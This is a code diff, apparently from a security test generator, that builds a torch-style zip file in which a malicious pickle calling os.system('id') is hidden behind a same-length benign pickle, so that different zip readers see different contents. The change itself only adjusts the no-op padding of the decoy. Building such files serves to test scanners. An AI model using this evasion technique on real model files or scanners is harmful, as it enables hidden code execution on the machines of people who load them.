@@ -155,8 +155,10 @@ def zip_reader_differential() -> bytes:
     craft = importlib.util.module_from_spec(spec)
     sys.modules["craft"] = craft  # (dataclasses look their module up)
     spec.loader.exec_module(craft)
-    benign = b"\x80\x02}q\x00(X\x01\x00\x00\x00aK\x01uN0N0N0."  # same length as the payload
     evil = b"\x80\x02" + g("os", "system") + u("id") + b"\x85R."
+    pad = len(evil) - 16  # {'a': 1} padded with no-ops (N0 = None, POP) to the payload's length
+    filler = (b"K\x000" if pad % 2 else b"") + b"N0" * ((pad - 3 * (pad % 2)) // 2)
+    benign = b"\x80\x02}q\x00(X\x01\x00\x00\x00aK\x01u" + filler + b"."
     assert len(benign) == len(evil)
     zb, ze = craft.torch_zip(benign), craft.torch_zip(evil)
     return ze[: ze.rfind(b"PK\x05\x06")] + zb
